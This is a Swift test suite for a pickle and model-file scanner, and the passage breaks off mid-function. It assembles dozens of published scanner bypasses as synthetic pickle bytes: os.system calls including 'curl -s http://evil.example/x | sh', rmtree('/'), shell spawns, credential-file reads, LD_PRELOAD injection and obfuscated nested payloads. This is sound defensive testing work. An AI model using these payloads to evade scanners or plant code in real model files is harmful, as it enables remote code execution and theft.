import BulwarkCore
import BulwarkFormats
@testable import BulwarkModels
import Testing

/// One published bypass of a pickle/model scanner, rebuilt with the test-support assemblers.
/// Nothing here comes from a real pickler and nothing is ever loaded.
struct Technique: Sendable, CustomTestStringConvertible {
    var name: String
    var source: String
    var bytes: [UInt8]
    var path: String = "models/model.bin"
    /// The rule that must report it (nil: any finding at medium or above).
    var rule: String?
    var testDescription: String { name }
}

/// Small pickle shapes the techniques share.
enum Shapes {
    /// `module.name(*args)` with string arguments.
    static func call(_ m: String, _ n: String, _ args: [String], proto: Int = 2, stackGlobal: Bool = false) -> [UInt8] {
        PickleBuilder.call(m, n, args, protocol: proto, stackGlobal: stackGlobal)
    }

    /// `getattr(outer(arg), attr)(payload)`: a function that returns a module or callable, then a call on it.
    static func getattrChain(outer: (String, String), arg: String, attr: String, payload: String) -> [UInt8] {
        var p = PickleBuilder(protocol: 4)
        p.stackGlobal("builtins", "getattr")
        p.stackGlobal(outer.0, outer.1)
        p.string(arg); p.op(.tuple1); p.op(.reduce)
        p.string(attr); p.op(.tuple2); p.op(.reduce)
        p.string(payload); p.op(.tuple1); p.op(.reduce)
        return p.finished()
    }

    /// `f(g(arg))`: an outer call fed by an inner call (nested loaders, decoders).
    static func nested(_ outer: (String, String), _ inner: (String, String), bytesArg: [UInt8]) -> [UInt8] {
        var p = PickleBuilder(protocol: 3)
        p.global(outer.0, outer.1)
        p.global(inner.0, inner.1)
        p.binBytes(bytesArg); p.op(.tuple1); p.op(.reduce)
        p.op(.tuple1); p.op(.reduce)
        return p.finished()
    }

    /// `outer(inner_callable, *args)`: a callable passed to a helper that calls it.
    static func callThrough(_ outer: (String, String), _ fn: (String, String), _ args: [String]) -> [UInt8] {
        var p = PickleBuilder(protocol: 2)
        p.global(outer.0, outer.1)
        p.op(.mark)
        p.global(fn.0, fn.1)
        for a in args { p.string(a) }
        p.op(.tuple)
        p.op(.reduce)
        return p.finished()
    }

    /// A torch-like zip checkpoint whose data.pkl calls `os.system`.
    static let evilPickle = PickleBuilder.call("os", "system", ["curl -s http://evil.example/x | sh"])

    static func zip(_ entries: [ZipBuilder.Entry], prefix: [UInt8] = []) -> [UInt8] {
        var z = ZipBuilder()
        z.prefix = prefix
        for e in entries { z.add(e) }
        return z.build()
    }

    static func le(_ v: UInt64, _ n: Int) -> [UInt8] { (0..<n).map { UInt8(truncatingIfNeeded: v >> (8 * UInt64($0))) } }

    /// An `.npy` file with an object dtype whose body is the given pickle.
    static func npyObject(_ pickle: [UInt8]) -> [UInt8] {
        var header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        while (10 + header.utf8.count + 1) % 64 != 0 { header += " " }
        header += "\n"
        return [0x93] + Array("NUMPY".utf8) + [1, 0] + le(UInt64(header.utf8.count), 2) + Array(header.utf8) + pickle
    }

    static func octal(_ v: Int, _ width: Int) -> String {
        let s = String(v, radix: 8)
        return String(repeating: "0", count: max(0, width - s.count)) + s
    }

    /// A tar archive (ustar) of the given members.
    static func tar(_ members: [(String, [UInt8])]) -> [UInt8] {
        var out: [UInt8] = []
        for (name, data) in members {
            var h = [UInt8](repeating: 0, count: 512)
            for (i, b) in name.utf8.prefix(99).enumerated() { h[i] = b }
            func put(_ s: String, _ at: Int) { for (i, b) in s.utf8.enumerated() { h[at + i] = b } }
            put("0000644\0", 100); put("0000000\0", 108); put("0000000\0", 116)
            put(octal(data.count, 11) + "\0", 124)
            put("00000000000\0", 136)
            h[156] = 0x30
            put("ustar\0", 257); put("00", 263)
            for i in 148..<156 { h[i] = 0x20 }
            let sum = h.reduce(0) { $0 + Int($1) }
            put(octal(sum, 6) + "\0 ", 148)
            out += h + data + [UInt8](repeating: 0, count: (512 - data.count % 512) % 512)
        }
        return out + [UInt8](repeating: 0, count: 1024)
    }
}

@Suite("published bypasses of pickle and model scanners")
struct PublishedBypassTests {
    static let picklescanAdv = "github.com/mmaitre314/picklescan/security/advisories"

    // MARK: - Unlisted callables (denylist gaps of picklescan / modelscan / fickling)

    static let unlisted: [Technique] = [
        Technique(name: "classic os.system REDUCE", source: "huggingface.co/docs/hub/security-pickle",
                  bytes: Shapes.call("os", "system", ["id"]), rule: "pickle-dangerous-call"),
        Technique(name: "posix.system alias", source: "picklescan #14 era; Python pickles os.system as posix.system",
                  bytes: Shapes.call("posix", "system", ["id"]), rule: "pickle-dangerous-call"),
        Technique(name: "nt.system alias", source: "Windows pickles os.system as nt.system",
                  bytes: Shapes.call("nt", "system", ["calc"]), rule: "pickle-dangerous-call"),
        Technique(name: "__builtin__.eval protocol 0", source: "modelscan #89 (__builtin__ vs builtins)",
                  bytes: Shapes.call("__builtin__", "eval", ["__import__('os').system('id')"], proto: 0), rule: "pickle-dangerous-call"),
        Technique(name: "builtins.exec", source: "fickling UNSAFE_IMPORTS", bytes: Shapes.call("builtins", "exec", ["import os"]),
                  rule: "pickle-dangerous-call"),
        Technique(name: "importlib.import_module + getattr", source: "picklescan PR #74; modelscan #331",
                  bytes: Shapes.getattrChain(outer: ("importlib", "import_module"), arg: "os", attr: "system", payload: "id")),
        Technique(name: "builtins.__import__ + getattr", source: "picklescan GHSA (getattr chains)",
                  bytes: Shapes.getattrChain(outer: ("builtins", "__import__"), arg: "os", attr: "system", payload: "id")),
        Technique(name: "pkgutil.resolve_name universal bypass", source: "GHSA-vvpj-8cmc-gx39 (picklescan)",
                  bytes: Shapes.callThrough(("builtins", "apply"), ("pkgutil", "resolve_name"), ["os:system"])),
        Technique(name: "pkgutil.resolve_name called", source: "GHSA-vvpj-8cmc-gx39 (picklescan)",
                  bytes: Shapes.call("pkgutil", "resolve_name", ["os:system"]), rule: "pickle-dangerous-call"),
        Technique(name: "pydoc.locate", source: "modelaudit / fickling import resolvers",
                  bytes: Shapes.call("pydoc", "locate", ["os.system"]), rule: "pickle-dangerous-call"),
        Technique(name: "operator.attrgetter", source: "picklescan GHSA (operator gadgets)",
                  bytes: Shapes.call("_operator", "attrgetter", ["system"]), rule: "pickle-dangerous-call"),
        Technique(name: "operator.methodcaller", source: "picklescan GHSA (operator gadgets)",
                  bytes: Shapes.call("operator", "methodcaller", ["system", "id"]), rule: "pickle-dangerous-call"),
        Technique(name: "functools.partial(os.system)", source: "fickling UNSAFE_IMPORTS",
                  bytes: Shapes.callThrough(("functools", "partial"), ("os", "system"), ["id"])),
        Technique(name: "functools.reduce(os.system)", source: "brief: functools.reduce gadget",
                  bytes: Shapes.callThrough(("_functools", "reduce"), ("os", "system"), ["id"])),
        Technique(name: "marshal.loads code object", source: "picklescan PR #74",
                  bytes: Shapes.nested(("types", "FunctionType"), ("marshal", "loads"), bytesArg: [0xE3, 0, 0, 0, 0])),
        Technique(name: "pip.main install", source: "picklescan GHSA (pip.main)",
                  bytes: Shapes.call("pip", "main", ["install", "evil-pkg"]), rule: "pickle-dangerous-call"),
        Technique(name: "pip._internal.cli.main", source: "picklescan GHSA (pip internals)",
                  bytes: Shapes.call("pip._internal.cli.main", "main", ["install", "evil"]), rule: "pickle-dangerous-call"),
        Technique(name: "ensurepip._run_pip", source: "GHSA-xp4f-hrf8-rxw7 (picklescan)",
                  bytes: Shapes.call("ensurepip", "_run_pip", ["install", "evil"]), rule: "pickle-dangerous-call"),
        Technique(name: "timeit.timeit", source: "GHSA-v7x6-rv5q-mhwc (picklescan)",
                  bytes: Shapes.call("timeit", "timeit", ["__import__('os').system('id')"]), rule: "pickle-dangerous-call"),
        Technique(name: "cProfile.run", source: "modelscan PR #313 (cProfile.run)",
                  bytes: Shapes.call("cProfile", "run", ["__import__('os').system('id')"]), rule: "pickle-dangerous-call"),
        Technique(name: "profile.run", source: "modelscan PR #313 (profile.*)",
                  bytes: Shapes.call("profile", "run", ["import os"]), rule: "pickle-dangerous-call"),
        Technique(name: "trace.Trace.runctx", source: "picklescan GHSA (trace)",
                  bytes: Shapes.call("trace", "Trace.runctx", ["import os"], proto: 4, stackGlobal: true), rule: "pickle-dangerous-call"),
        Technique(name: "code.InteractiveInterpreter.runcode", source: "modelscan PR #313",
                  bytes: Shapes.call("code", "InteractiveInterpreter.runcode", ["import os"], proto: 4, stackGlobal: true)),
        Technique(name: "idlelib.pyshell.ModifiedInterpreter.runcommand", source: "modelscan PR #313 (idlelib)",
                  bytes: Shapes.call("idlelib.pyshell", "ModifiedInterpreter.runcommand", ["import os"], proto: 4, stackGlobal: true)),
        Technique(name: "idlelib.debugobj.ObjectTreeItem.SetText", source: "picklescan GHSA (idlelib eval)",
                  bytes: Shapes.call("idlelib.debugobj", "ObjectTreeItem.SetText", ["__import__('os')"], proto: 4, stackGlobal: true)),
        Technique(name: "lib2to3.pgen2.grammar eval", source: "picklescan GHSA (lib2to3)",
                  bytes: Shapes.call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", ["x"], proto: 4, stackGlobal: true)),
        Technique(name: "numpy.testing runstring", source: "modelscan PR #313; picklescan GHSA (numpy.testing)",
                  bytes: Shapes.call("numpy.testing._private.utils", "runstring", ["import os", "{}"]), rule: "pickle-dangerous-call"),
        Technique(name: "numpy.f2py getlincoef eval", source: "picklescan GHSA (numpy.f2py)",
                  bytes: Shapes.call("numpy.f2py.crackfortran", "getlincoef", ["__import__('os').system('id')", "{}"])),
        Technique(name: "torch.utils.bottleneck run_cprofile", source: "modelscan PR #313; picklescan GHSA",
                  bytes: Shapes.call("torch.utils.bottleneck.__main__", "run_cprofile", ["import os", "{}"]), rule: "pickle-dangerous-call"),
        Technique(name: "torch._dynamo GuardBuilder.get", source: "modelscan PR #313",
                  bytes: Shapes.call("torch._dynamo.guards", "GuardBuilder.get", ["__import__('os')"], proto: 4, stackGlobal: true)),
        Technique(name: "torch.fx symbolic_shapes ShapeEnv.evaluate_guards_expression", source: "modelscan PR #313",
                  bytes: Shapes.call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", ["x"], proto: 4, stackGlobal: true)),
        Technique(name: "torch.jit unsupported_tensor_ops execWrapper", source: "picklescan GHSA (torch.jit)",
                  bytes: Shapes.call("torch.jit.unsupported_tensor_ops", "execWrapper", ["import os", "{}", "{}"])),
        Technique(name: "torch._inductor codecache compile_file", source: "picklescan GHSA (torch._inductor)",
                  bytes: Shapes.call("torch._inductor.codecache", "compile_file", ["a", "b", "gcc -o x"])),
        Technique(name: "torch.serialization.load nested", source: "picklescan GHSA (nested torch.load)",
                  bytes: Shapes.call("torch.serialization", "load", ["/tmp/evil.pt"]), rule: "pickle-dangerous-call"),
        Technique(name: "torch.hub.load remote code", source: "fickling UNSAFE_IMPORTS",
                  bytes: Shapes.call("torch.hub", "load", ["evil/repo", "model"]), rule: "pickle-dangerous-call"),
        Technique(name: "asyncio _UnixSubprocessTransport._start", source: "picklescan GHSA (asyncio subprocess)",
                  bytes: Shapes.call("asyncio.unix_events", "_UnixSubprocessTransport._start", ["id"], proto: 4, stackGlobal: true)),
        Technique(name: "asyncio base_subprocess subclass path", source: "CVE-2025-10157 (JFrog: subclass of a blocked class)",
                  bytes: Shapes.call("asyncio.base_subprocess", "BaseSubprocessTransport._start", ["id"], proto: 4, stackGlobal: true)),
        Technique(name: "asyncio.subprocess.create_subprocess_shell", source: "picklescan GHSA (asyncio)",
                  bytes: Shapes.call("asyncio.subprocess", "create_subprocess_shell", ["id"])),
        Technique(name: "distutils.spawn.spawn", source: "picklescan GHSA (distutils)",
                  bytes: Shapes.call("distutils.spawn", "spawn", ["id"])),
        Technique(name: "setuptools._distutils spawn", source: "picklescan GHSA (setuptools helpers)",
                  bytes: Shapes.call("setuptools._distutils.spawn", "spawn", ["id"])),
        Technique(name: "ctypes.CDLL", source: "modelscan PR #339",
                  bytes: Shapes.call("ctypes", "CDLL", ["libc.so.6"]), rule: "pickle-dangerous-call"),
        Technique(name: "_pickle.loads nested pickle", source: "modelscan #267",
                  bytes: Shapes.nested(("_pickle", "loads"), ("builtins", "bytes"), bytesArg: Array("cos\nsystem\n(S'id'\ntR.".utf8))),
        Technique(name: "pickle._loads nested", source: "fickling UNSAFE_IMPORTS (pickle internals)",
                  bytes: Shapes.call("pickle", "_loads", ["cos\nsystem\n(S'id'\ntR."])),
        Technique(name: "zlib.decompress obfuscation + loads", source: "modelscan #338 (obfuscation)",
                  bytes: Shapes.nested(("pickle", "loads"), ("zlib", "decompress"), bytesArg: [0x78, 0x9C, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])),
        Technique(name: "base64 decode + exec", source: "modelaudit obfuscation patterns",
                  bytes: Shapes.nested(("builtins", "exec"), ("base64", "b64decode"), bytesArg: Array("aW1wb3J0IG9z".utf8))),
        Technique(name: "shutil.rmtree", source: "picklescan GHSA (shutil)", bytes: Shapes.call("shutil", "rmtree", ["/"])),
        Technique(name: "shutil.unpack_archive (tar extraction)", source: "picklescan GHSA (archive extraction)",
                  bytes: Shapes.call("shutil", "unpack_archive", ["/tmp/x.tar", "/"])),
        Technique(name: "tarfile.open extraction", source: "picklescan GHSA (tarfile)",
                  bytes: Shapes.call("tarfile", "open", ["/tmp/x.tar"])),
        Technique(name: "webbrowser.open", source: "picklescan _unsafe_globals (webbrowser)",
                  bytes: Shapes.call("webbrowser", "open", ["http://evil.example"])),
        Technique(name: "pty.spawn", source: "picklescan _unsafe_globals (pty)", bytes: Shapes.call("pty", "spawn", ["/bin/sh"])),
        Technique(name: "logging.config.listen", source: "brief: logging.config.listen (config server)",
                  bytes: Shapes.call("logging.config", "listen", ["9999"])),
        Technique(name: "multiprocessing.util spawnv_passfds", source: "picklescan GHSA (multiprocessing)",
                  bytes: Shapes.call("multiprocessing.util", "spawnv_passfds", ["/bin/sh"])),
        Technique(name: "venv.create with pip", source: "brief: venv/ensurepip", bytes: Shapes.call("venv", "create", ["/tmp/v"])),
        Technique(name: "zipimport.zipimporter", source: "brief: zipimport", bytes: Shapes.call("zipimport", "zipimporter", ["/tmp/x.zip"])),
        Technique(name: "linecache.getline file read", source: "picklescan GHSA (linecache)",
                  bytes: Shapes.call("linecache", "getline", ["/etc/passwd", "1"])),
        Technique(name: "glob.glob listing", source: "picklescan GHSA (glob)", bytes: Shapes.call("glob", "glob", ["/home/*/.ssh/*"])),
        Technique(name: "uuid._get_command_stdout", source: "picklescan _unsafe_globals (uuid)",
                  bytes: Shapes.call("uuid", "_get_command_stdout", ["sh", "-c", "id"])),
        Technique(name: "imaplib.IMAP4_stream", source: "picklescan _unsafe_globals (imaplib)",
                  bytes: Shapes.call("imaplib", "IMAP4_stream", ["id"])),
        Technique(name: "_osx_support._read_output", source: "picklescan _unsafe_globals (_osx_support)",
                  bytes: Shapes.call("_osx_support", "_read_output", ["id"])),
        Technique(name: "_aix_support._read_cmd_output", source: "picklescan GHSA (_aix_support)",
                  bytes: Shapes.call("_aix_support", "_read_cmd_output", ["id"])),
        Technique(name: "mailcap.findmatch", source: "modelscan PR #346", bytes: Shapes.call("mailcap", "findmatch", ["x", "text/plain"])),
        Technique(name: "pdb.run", source: "picklescan _unsafe_globals (pdb)", bytes: Shapes.call("pdb", "run", ["import os"])),
        Technique(name: "bdb.Bdb.run", source: "picklescan GHSA (bdb)",
                  bytes: Shapes.call("bdb", "Bdb.run", ["import os"], proto: 4, stackGlobal: true)),
        Technique(name: "doctest.debug_script", source: "picklescan GHSA (doctest)", bytes: Shapes.call("doctest", "debug_script", ["import os"])),
        Technique(name: "runpy._run_code", source: "picklescan _unsafe_globals (runpy)", bytes: Shapes.call("runpy", "_run_code", ["import os", "{}"])),
        Technique(name: "pydoc.pipepager", source: "picklescan GHSA (pydoc pagers)", bytes: Shapes.call("pydoc", "pipepager", ["x", "sh -c id"])),
        Technique(name: "builtins.breakpoint", source: "fickling UNSAFE_IMPORTS", bytes: Shapes.call("builtins", "breakpoint", [])),
        Technique(name: "builtins.open write", source: "fickling UNSAFE_IMPORTS (file writes)",
                  bytes: Shapes.call("builtins", "open", ["/root/.bashrc", "a"])),
        Technique(name: "socket.create_connection exfiltration", source: "modelscan PR #339 (network)",
                  bytes: Shapes.call("socket", "create_connection", ["evil.example:443"])),
        Technique(name: "http.client.HTTPConnection", source: "modelscan PR #339", bytes: Shapes.call("http.client", "HTTPConnection", ["evil.example"])),
        Technique(name: "urllib.request.urlopen", source: "modelscan PR #339", bytes: Shapes.call("urllib.request", "urlopen", ["http://evil.example"])),
        Technique(name: "signal.raise_signal DoS", source: "modelscan PR #339", bytes: Shapes.call("signal", "raise_signal", ["9"])),
        Technique(name: "ssl.get_server_certificate", source: "modelscan PR #313 (ssl)", bytes: Shapes.call("ssl", "get_server_certificate", ["evil.example"])),
        Technique(name: "sys.modules via dotted numpy chain", source: "modelscan #89 (numpy.core._internal.sys.modules)",
                  bytes: Shapes.call("numpy", "core._internal.sys.modules.get", ["os"], proto: 4, stackGlobal: true)),
        Technique(name: "tempfile._os.system dotted chain", source: "picklescan GHSA (dotted attribute chains)",
                  bytes: Shapes.call("tempfile", "_os.system", ["id"], proto: 4, stackGlobal: true)),
        Technique(name: "joblib.load nested", source: "fickling UNSAFE_IMPORTS (nested loaders)", bytes: Shapes.call("joblib", "load", ["/tmp/x.pkl"])),
        Technique(name: "numpy 2 _npyio_impl.load nested", source: "numpy 2 module move of numpy.load",
                  bytes: Shapes.call("numpy.lib._npyio_impl", "load", ["/tmp/x.npy"])),
        Technique(name: "pandas.read_pickle nested", source: "fickling UNSAFE_IMPORTS", bytes: Shapes.call("pandas", "read_pickle", ["/tmp/x.pkl"])),
        Technique(name: "torch.storage._load_from_bytes nested", source: "picklescan GHSA (torch.storage)",
                  bytes: Shapes.call("torch.storage", "_load_from_bytes", ["x"])),
        Technique(name: "keras.models.load_model nested", source: "modelaudit nested loaders", bytes: Shapes.call("keras.models", "load_model", ["/tmp/x.h5"])),
        Technique(name: "weakref.finalize", source: "brief: weakref.finalize", bytes: Shapes.callThrough(("weakref", "finalize"), ("os", "system"), ["id"])),
        Technique(name: "atexit.register", source: "brief: atexit", bytes: Shapes.callThrough(("atexit", "register"), ("os", "system"), ["id"])),
        Technique(name: "threading.Thread target", source: "brief: threading", bytes: Shapes.call("threading", "Timer", ["1"])),
    ]

    @Test(arguments: unlisted) func unlistedCallable(_ t: Technique) { check(t) }

    // MARK: - VM confusions (stack, memo, operands, BUILD)

    static var vm: [Technique] {
        var out: [Technique] = []
        // Memo PUT/MEMOIZE mix (picklescan #14).
        do {
            var p = PickleBuilder(protocol: 4)
            p.string("os"); p.binPut(0)
            p.string("system"); p.binPut(1)
            p.string("torch._utils"); p.op(.memoize)
            p.string("_rebuild_tensor_v2"); p.op(.memoize)
            p.op(.pop); p.op(.pop); p.op(.pop); p.op(.pop)
            p.binGet(0); p.binGet(1); p.op(.stackGlobal)
            p.string("id"); p.op(.tuple1); p.op(.reduce)
            out.append(Technique(name: "memo PUT/MEMOIZE confusion", source: "picklescan #14 (Doyensec)", bytes: p.finished(), rule: "pickle-dangerous-call"))
        }
        // BUILD on numpy.prod then STACK_GLOBAL from attributes (modelscan #85).
        do {
            var p = PickleBuilder(protocol: 4)
            p.global("numpy", "prod")
            p.op(.none)
            p.op(.mark); p.unicodeLine("a"); p.unicodeLine("os"); p.op(.dict)
            p.op(.tuple2); p.op(.build)
            p.op(.pop)
            p.global("numpy", "prod.a"); p.raw([PickleOpcode.put.rawValue] + Array("0\n".utf8))
            p.string("system")
            p.op(.stackGlobal)
            p.string("id"); p.op(.tuple1); p.op(.reduce)
            out.append(Technique(name: "BUILD slotstate then STACK_GLOBAL from attribute", source: "modelscan #85", bytes: p.finished()))
        }
        // numpy.__builtins__ + dict.get (modelscan #89, #330).
        do {
            var p = PickleBuilder(protocol: 4)
            p.stackGlobal("builtins", "dict.get")
            p.stackGlobal("numpy", "__builtins__")
            p.string("exec"); p.op(.tuple2); p.op(.reduce)
            p.string("__import__('os').system('id')"); p.op(.tuple1); p.op(.reduce)
            out.append(Technique(name: "numpy.__builtins__ dict.get", source: "modelscan #89 / #330", bytes: p.finished()))
        }
        // BUILD shape-swap on numpy.size (modelscan #330).
        do {
            var p = PickleBuilder(protocol: 4)
            p.stackGlobal("numpy", "size"); p.op(.memoize); p.op(.memoize)
            p.stackGlobal("numpy", "__builtins__"); p.op(.memoize); p.op(.memoize)
            p.binGet(1); p.op(.emptyDict); p.op(.emptyDict); p.string("shape"); p.binGet(3); p.op(.setItem); p.op(.tuple2); p.op(.build)
            p.binGet(1); p.binGet(1); p.string("eval"); p.op(.tuple2); p.op(.reduce)
            p.string("__import__('os').system('id')"); p.op(.tuple1); p.op(.reduce)
            out.append(Technique(name: "BUILD on numpy.size with __builtins__", source: "modelscan #330", bytes: p.finished()))
        }
        // STACK_GLOBAL with bytes / int / bytearray operands (modelscan #338).
        do {
            var p = PickleBuilder(protocol: 4)
            p.binBytes(Array("os".utf8)); p.string("system"); p.op(.stackGlobal)
            p.string("id"); p.op(.tuple1); p.op(.reduce)
            out.append(Technique(name: "STACK_GLOBAL bytes operand", source: "modelscan #338 (type confusion)", bytes: p.finished()))
            var q = PickleBuilder(protocol: 5)
            q.string("os")
            q.raw([PickleOpcode.byteArray8.rawValue] + Shapes.le(6, 8) + Array("system".utf8))
            q.op(.stackGlobal)
            q.string("id"); q.op(.tuple1); q.op(.reduce)
            out.append(Technique(name: "STACK_GLOBAL bytearray operand", source: "modelscan #338 (unhashable)", bytes: q.finished()))
            var r = PickleBuilder(protocol: 4)
            r.int(42); r.string("os"); r.op(.stackGlobal)
            out.append(Technique(name: "STACK_GLOBAL int operand", source: "modelscan #338 (type confusion)", bytes: r.finished()))
        }
        // getattr + str.join building "os" from characters (modelscan #331).
        do {
            var p = PickleBuilder(protocol: 4)
            p.stackGlobal("builtins", "getattr"); p.op(.memoize)
            p.stackGlobal("builtins", "str"); p.string("join"); p.op(.tuple2); p.op(.reduce)
            p.string(""); p.op(.emptyList); p.op(.mark); p.string("o"); p.string("s"); p.op(.appends); p.op(.tuple2); p.op(.reduce)
            out.append(Technique(name: "getattr(str, 'join') builds names", source: "modelscan #331", bytes: p.finished()))
        }
        // Protocol 0 INST of os.system.
        do {
            var p = PickleBuilder(protocol: 0)
            p.op(.mark); p.raw([PickleOpcode.string.rawValue] + Array("'id'\n".utf8))
            p.raw([PickleOpcode.inst.rawValue] + Array("subprocess\ncheck_output\n".utf8))
            out.append(Technique(name: "protocol 0 INST subprocess.check_output", source: "pickletools INST; fickling tests", bytes: p.finished()))
        }
        // OBJ opcode (protocol 1).
        do {
            var p = PickleBuilder(protocol: 1)
            p.op(.mark); p.global("builtins", "eval"); p.string("1"); p.op(.obj)
            out.append(Technique(name: "protocol 1 OBJ builtins.eval", source: "pickletools OBJ", bytes: p.finished(), rule: "pickle-dangerous-call"))
        }
        // __setstate__ planted through BUILD.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("collections", "OrderedDict"); p.op(.emptyTuple); p.op(.reduce)
            p.op(.none); p.op(.emptyDict); p.string("__setstate__"); p.global("os", "system"); p.op(.setItem); p.op(.tuple2); p.op(.build)
            p.string("id"); p.op(.build)
            out.append(Technique(name: "planted __setstate__ via BUILD", source: "Trail of Bits fickling (BUILD gadgets)", bytes: p.finished()))
        }
        // EXT codes via copyreg.add_extension.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("copyreg", "add_extension")
            p.string("os"); p.string("system"); p.int(7); p.op(.tuple3); p.op(.reduce); p.op(.pop)
            p.raw([PickleOpcode.ext1.rawValue, 7]); p.string("id"); p.op(.tuple1); p.op(.reduce)
            out.append(Technique(name: "EXT1 after copyreg.add_extension", source: "pickle EXT registry abuse (fickling tests)", bytes: p.finished()))
            var q = PickleBuilder(protocol: 2)
            q.raw([PickleOpcode.ext2.rawValue, 0x39, 0x05]); q.string("id"); q.op(.tuple1); q.op(.reduce)
            out.append(Technique(name: "bare EXT2 code", source: "pickle EXT opcodes (unknown registry)", bytes: q.finished()))
        }
        // rot13 names through _codecs.encode.
        out.append(Technique(name: "STACK_GLOBAL from _codecs.encode rot13", source: "fickling tests (computed names)",
                             bytes: PickleComputedGlobalRule.rot13StackGlobal, rule: "pickle-computed-global"))
        // copyreg._reconstructor with a callable base.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("copyreg", "_reconstructor")
            p.global("collections", "OrderedDict"); p.global("subprocess", "Popen"); p.string("id"); p.op(.tuple3); p.op(.reduce)
            out.append(Technique(name: "copyreg._reconstructor base is Popen", source: "copyreg internals (allowlisted helper abuse)", bytes: p.finished()))
        }
        // _rebuild_from_type_v2 calling its argument.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("torch._tensor", "_rebuild_from_type_v2")
            p.op(.mark); p.global("os", "system"); p.global("torch", "Tensor"); p.stringTuple(["id"]); p.op(.emptyDict); p.op(.tuple); p.op(.reduce)
            out.append(Technique(name: "torch _rebuild_from_type_v2 calls os.system", source: "torch rebuild helper abuse", bytes: p.finished()))
        }
        // Backward hooks in _rebuild_tensor_v2 (run on backward pass during fine-tuning).
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("torch._utils", "_rebuild_tensor_v2")
            p.op(.mark)
            p.op(.mark); p.string("storage"); p.global("torch", "FloatStorage"); p.string("0"); p.string("cpu"); p.int(1); p.op(.tuple); p.op(.binPersID)
            p.int(0); p.int(1); p.op(.tuple1); p.int(1); p.op(.tuple1); p.op(.newTrue)
            p.global("collections", "OrderedDict"); p.op(.emptyTuple); p.op(.reduce)
            p.op(.mark); p.int(0); p.global("os", "system"); p.op(.dict); p.op(.build)
            p.op(.tuple); p.op(.reduce)
            out.append(Technique(name: "tensor backward hook is os.system", source: "torch _rebuild_tensor_v2 backward_hooks", bytes: p.finished()))
        }
        // BUILD monkey-patching a module attribute.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("torch", "nn"); p.op(.none); p.op(.emptyDict); p.string("Module"); p.global("os", "system"); p.op(.setItem); p.op(.tuple2); p.op(.build)
            out.append(Technique(name: "BUILD monkey-patches torch.nn", source: "fickling (BUILD on modules)", bytes: p.finished()))
        }
        // SETITEM into os.environ (LD_PRELOAD).
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("os", "environ"); p.string("LD_PRELOAD"); p.string("/tmp/x.so"); p.op(.setItem)
            out.append(Technique(name: "SETITEM os.environ LD_PRELOAD", source: "pickle SETITEM on a referenced global", bytes: p.finished()))
        }
        // Trusted-package class used as a downloader/loader with a URL (ultralytics YOLO fetches and torch.loads).
        out.append(Technique(name: "trusted class called with a URL (ultralytics.YOLO)", source: "allowlist trust abuse (enum-style call)",
                             bytes: Shapes.call("ultralytics", "YOLO", ["https://evil.example/yolo.pt"]), rule: "pickle-dangerous-call"))
        out.append(Technique(name: "trusted class called with a path (huggingface_hub.Repository)", source: "allowlist trust abuse (runs git)",
                             bytes: Shapes.call("huggingface_hub", "Repository", ["/tmp/x"]), rule: "pickle-dangerous-call"))
        // numpy.memmap called: opens (w+ truncates) a file.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("numpy", "memmap"); p.string("/root/.bashrc"); p.global("numpy", "uint8"); p.string("w+"); p.op(.tuple3); p.op(.reduce)
            out.append(Technique(name: "numpy.memmap called with w+", source: "allowlisted numpy class with file side effects", bytes: p.finished(), rule: "pickle-dangerous-call"))
        }
        // Datapipe serialization wrapper: __setstate__ runs pickle.loads/dill.loads on its state.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper")
            p.op(.emptyTuple); p.op(.newObj)
            p.binBytes(Shapes.evilPickle); p.op(.newFalse); p.op(.tuple2); p.op(.build)
            out.append(Technique(name: "torch datapipe wrapper __setstate__ nested pickle", source: "torch.utils.data.datapipes _DataPipeSerializationWrapper.__setstate__", bytes: p.finished()))
        }
        // A nested pickle in a bytes literal given to an allowlisted-looking class.
        do {
            var p = PickleBuilder(protocol: 2)
            p.op(.emptyDict); p.string("blob"); p.binBytes(Shapes.evilPickle); p.op(.setItem)
            out.append(Technique(name: "malicious pickle hidden in a bytes value", source: "modelscan #267 (nested payloads)", bytes: p.finished()))
        }
        // Protocol 2 spelling of bytes: _codecs.encode(str, 'latin1') around a nested pickle.
        do {
            let inner = String(decoding: [], as: UTF8.self) + String(Shapes.evilPickle.map { Character(Unicode.Scalar($0)) })
            var p = PickleBuilder(protocol: 2)
            p.global("pickle", "loads")
            p.global("_codecs", "encode"); p.string(inner); p.string("latin1"); p.op(.tuple2); p.op(.reduce)
            p.op(.tuple1); p.op(.reduce)
            let loads = p.finished()
            var q = PickleBuilder(protocol: 2)
            q.op(.emptyDict); q.string("blob")
            q.global("_codecs", "encode"); q.string(inner); q.string("latin1"); q.op(.tuple2); q.op(.reduce)
            q.op(.setItem)
            out.append(Technique(name: "protocol 2 latin-1 string holding a nested pickle", source: "pickle protocol 2 bytes encoding (_codecs.encode)",
                                 bytes: q.finished(), rule: "pickle-dangerous-call"))
            out.append(Technique(name: "pickle.loads of a latin-1 encoded payload", source: "modelscan #267 (nested loads)", bytes: loads))
        }
        // Broken stream right after the payload (nullifAI) and missing STOP.
        do {
            var p = PickleBuilder(protocol: 2)
            p.global("os", "system"); p.stringTuple(["id"]); p.op(.reduce)
            p.raw([0x00, 0xFF, 0x13])
            out.append(Technique(name: "nullifAI broken stream", source: "ReversingLabs nullifAI (2025)", bytes: p.bytes))
        }
        // Text pickle with trailing newline (pickle.load stops at STOP).
        out.append(Technique(name: "protocol 0 text pickle with trailing newline", source: "pickle.load ignores bytes after STOP",
                             bytes: Array("cos\nsystem\n(S'id'\ntR.\n".utf8), path: "models/model.pkl"))
        out.append(Technique(name: "protocol 0 text pickle with junk after STOP", source: "pickle.load ignores bytes after STOP",
                             bytes: Array("cos\nsystem\n(S'id'\ntR.garbage here".utf8), path: "weights.dat"))
